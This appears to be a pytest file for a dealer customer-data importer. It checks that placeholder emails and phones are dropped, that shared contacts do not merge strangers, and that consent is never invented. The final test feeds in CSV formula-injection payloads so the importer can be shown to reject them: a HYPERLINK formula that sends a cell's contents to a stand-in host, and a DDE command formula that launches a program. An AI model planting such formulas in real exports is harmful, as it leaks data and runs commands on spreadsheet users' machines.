"""Real dealer exports: placeholder and shared contacts never merge strangers, consent is never invented."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pandas as pd
import pytest

from importer.cli import main
from importer.prepare.normalize import placeholder_emails, placeholder_phones
from tests.conftest import Api
from tests.helpers import DV_HEADER, VIN_A, dv_row, read_csv, read_jsonl, read_summary
from tests.test_run import run


@pytest.mark.parametrize(("email", "placeholder"), [
    ("noemail@noemail.com", True), ("none@gmail.com", True), ("declined@dealer.com", True), ("na@yahoo.com", True),
    ("john.smith@none.com", True), ("unknown@x.org", True), ("refused@refused.com", True),
    ("john.smith@gmail.com", False), ("nonesuch@example.com", False), ("anna@example.com", False),
])
def test_placeholder_emails(email: str, placeholder: bool):
    assert placeholder_emails(pd.Series([email], dtype="str")).tolist() == [placeholder]


@pytest.mark.parametrize(("phone", "placeholder"), [
    ("555-555-5555", True), ("000-000-0000", True), ("(999) 999-9999", True), ("310-000-0000", True),
    ("123-456-7890", True), ("1 (987) 654-3210", True), ("310-123-4567", True),
    ("(310) 555-1234", False), ("617 555 0100", False), ("213-867-5309", False), ("", False),
])
def test_placeholder_phones(phone: str, placeholder: bool):
    assert placeholder_phones(pd.Series([phone], dtype="str")).tolist() == [placeholder]


def _validate(path: Path, tmp_path: Path, *extra: str) -> tuple[list[dict[str, str]], list[dict[str, Any]]]:
    out, payloads = tmp_path / "out", tmp_path / "p.jsonl"
    main(["validate", str(path), "-m", "dealervault", "--out", str(out), "--payloads", str(payloads), *extra])
    return read_csv(out / "results.csv"), read_jsonl(payloads)


def test_placeholder_contacts_are_not_sent_and_say_why(tmp_path: Path, write_csv):
    path = write_csv([DV_HEADER, dv_row("601", first="John", last="Smith", email="NoEmail@NoEmail.com",
                                        cell="555-555-5555", home="(310) 555-1234")])
    (result,), (body,) = _validate(path, tmp_path)
    assert result["status"] == "valid"
    placeholder = "Email 1: a placeholder, not the customer's own; treated as empty: 'NoEmail@NoEmail.com'"
    assert placeholder in result["warnings"]
    assert "Cell Phone: a placeholder" in result["warnings"]
    assert "not a valid phone" not in result["warnings"]  # said once, as what it is
    assert "emails" not in body["customer"]
    assert [p["phoneNumber"] for p in body["customer"]["phoneNumbers"]] == ["+13105551234"]


def test_two_strangers_with_a_placeholder_email_stay_two_customers(sandbox, creds, tmp_path: Path, write_csv):
    path = write_csv([DV_HEADER,
                      dv_row("601", first="John", last="Smith", email="noemail@noemail.com"),
                      dv_row("602", first="John", last="Smith", email="noemail@noemail.com")])
    out = tmp_path / "out"
    assert run(path, sandbox.url, out) == 0
    first, second = read_csv(out / "results.csv")
    assert first["status"] == second["status"] == "success"
    assert first["customer_uuid"] != second["customer_uuid"]
    stats = Api(sandbox.url).stats()
    assert stats["creates"] == stats["customers"] == 2
    assert read_summary(out)["merged_customers"]["uuids"] == 0


def test_keys_answered_with_one_uuid_are_warned_and_counted(sandbox, creds, tmp_path: Path, write_csv):
    # A contact that is no known placeholder and shared by too few to be dropped: the server merges them.
    path = write_csv([DV_HEADER,
                      dv_row("601", first="John", last="Smith", email="smithfamily@example.com", vin=VIN_A),
                      dv_row("602", first="John", last="Smith", email="smithfamily@example.com"),
                      dv_row("601", first="John", last="Smith"),
                      dv_row("700", first="Ann", last="Lee")])
    out = tmp_path / "out"
    run(path, sandbox.url, out)
    results = read_csv(out / "results.csv")
    assert len({r["customer_uuid"] for r in results[:3]}) == 1
    for r in results[:3]:
        assert "customer keys 601, 602 were all saved as one myKaarma customer" in r["warnings"]
    assert "saved as one" not in results[3]["warnings"]
    assert read_summary(out)["merged_customers"] == {"uuids": 1, "customer_keys": 2, "rows": 3}


def test_a_contact_many_customers_share_is_dropped_for_all(tmp_path: Path, write_csv):
    dealer = "(310) 555-0199"
    rows = [dv_row(str(600 + n), first=f"F{n}", last=f"L{n}", cell=dealer, email=f"c{n}@example.com")
            for n in range(5)]
    path = write_csv([DV_HEADER, *rows, dv_row("700", first="Ann", last="Lee", cell="(310) 555-1234")])
    results, bodies = _validate(path, tmp_path)
    for result, body in zip(results[:5], bodies[:5], strict=True):
        assert "Cell Phone: the value is carried by 5 different customers in this file" in result["warnings"]
        assert "phoneNumbers" not in body["customer"]
        assert body["customer"]["emails"]
    assert results[5]["warnings"] == ""
    assert bodies[5]["customer"]["phoneNumbers"][0]["phoneNumber"] == "+13105551234"
    summary = read_summary(tmp_path / "out")
    assert {k: summary["problems"][0][k] for k in ("column", "rows")} == {"column": "Cell Phone", "rows": 5}


def test_the_shared_contact_limit_is_the_mappings(tmp_path: Path, write_csv):
    rows = [dv_row(str(600 + n), first=f"F{n}", last=f"L{n}", cell="(310) 555-0199") for n in range(5)]
    path = write_csv([DV_HEADER, *rows])
    mapping = tmp_path / "dv.yaml"
    text = Path("mappings/dealervault.yaml").read_text()
    mapping.write_text(text + "shared_contact_limit: 5\n")
    out, payloads = tmp_path / "o", tmp_path / "p"
    assert main(["validate", str(path), "-m", str(mapping), "--out", str(out), "--payloads", str(payloads)]) == 0
    assert all(b["customer"]["phoneNumbers"] for b in read_jsonl(payloads))
    mapping.write_text(text + "shared_contact_limit: none\n")
    assert main(["validate", str(path), "-m", str(mapping), "--out", str(out)]) == 2


def test_one_customer_on_many_rows_is_no_shared_contact(tmp_path: Path, write_csv):
    rows = [dv_row("601", first="Ann", last="Lee", cell="(310) 555-0199") for _ in range(8)]
    _, (body,) = _validate(write_csv([DV_HEADER, *rows]), tmp_path)
    assert body["customer"]["phoneNumbers"][0]["phoneNumber"] == "+13105550199"


def test_an_opt_out_column_never_gives_consent(tmp_path: Path, write_csv):
    path = write_csv([DV_HEADER,
                      dv_row("1", cell="(310) 555-1234", email="a@example.com", block_phone="N", block_email="N"),
                      dv_row("2", cell="(310) 555-2345", email="b@example.com", block_phone="Y", block_email="Y"),
                      dv_row("3", cell="(310) 555-3456", email="c@example.com")])
    _, (no, yes, unsaid) = _validate(path, tmp_path)
    assert no["customer"]["phoneNumbers"] == [{"phoneNumber": "+13105551234", "label": "cell"}]
    assert no["customer"]["emails"] == [{"emailAddress": "a@example.com", "label": "home"}]
    assert yes["customer"]["phoneNumbers"][0] == {"phoneNumber": "+13105552345", "label": "cell",
                                                       "okToCall": False, "okToText": False}
    assert yes["customer"]["emails"][0]["okToEmail"] is False
    assert "okToCall" not in unsaid["customer"]["phoneNumbers"][0]


def test_a_block_phone_n_row_sends_no_consent_to_the_sandbox(sandbox, creds, tmp_path: Path, write_csv):
    path = write_csv([DV_HEADER, dv_row("1", cell="(310) 555-1234", email="a@example.com", block_phone="N",
                                        block_email="N")])
    out = tmp_path / "out"
    assert run(path, sandbox.url, out) == 0
    saved = Api(sandbox.url).get(read_csv(out / "results.csv")[0]["customer_uuid"]).body
    customer = saved["customerWithVehicles"]["customer"]
    assert all(p.get("okToCall") is not True and p.get("okToText") is not True for p in customer["phoneNumbers"])
    assert all(e.get("okToEmail") is not True for e in customer["emails"])


def test_a_consent_column_alone_says_yes(tmp_path: Path, write_csv):
    mapping = tmp_path / "m.yaml"
    mapping.write_text("customer_key: Id\ncustomer: {lastName: Last}\n"
                       "phones:\n  - {column: Cell, label: cell, consent: Text OK}\n")
    path = write_csv([["Id", "Last", "Cell", "Text OK"], ["1", "Lee", "3105551234", "Y"],
                      ["2", "Day", "3105552345", "N"], ["3", "Roe", "3105553456", ""]])
    out, payloads = tmp_path / "o", tmp_path / "p"
    main(["validate", str(path), "-m", str(mapping), "--out", str(out), "--payloads", str(payloads)])
    flags = [{k: v for k, v in b["customer"]["phoneNumbers"][0].items() if k.startswith("ok")}
             for b in read_jsonl(payloads)]
    assert flags == [{"okToCall": True, "okToText": True}, {"okToCall": False, "okToText": False}, {}]


def test_a_formula_in_a_name_or_address_is_not_sent(tmp_path: Path, write_csv):
    path = write_csv([DV_HEADER,
                      dv_row("1", first='=HYPERLINK("http://x.example/?"&A1,"Ann")', last="Lee", line1="@SUM(A1:A9)",
                             city="Boston"),
                      dv_row("2", first="Bob", last="=cmd|' /C calc'!A0"),
                      dv_row("3", first="Cy", last="Day", line1="-1 Main St")])
    results, bodies = _validate(path, tmp_path)
    assert "First Name: would run as a spreadsheet formula; not sent" in results[0]["warnings"]
    assert "Address Line 1: would run as a spreadsheet formula" in results[0]["warnings"]
    assert results[0]["status"] == "valid"
    assert bodies[0]["customer"] == {"customerKey": "1", "lastName": "Lee", "addresses": [
        {"city": "Boston", "country": "US", "type": "PRIMARY", "addressType": "P"}]}
    assert results[1]["status"] == "invalid"
    assert "Last Name would run as a spreadsheet formula" in results[1]["error_message"]
    # OWASP's rule, the one mk-import keeps: a leading "-" is a formula to a spreadsheet, even before a digit.
    assert "Address Line 1: would run as a spreadsheet formula" in results[2]["warnings"]
    assert "line1" not in bodies[1]["customer"].get("addresses", [{}])[0]
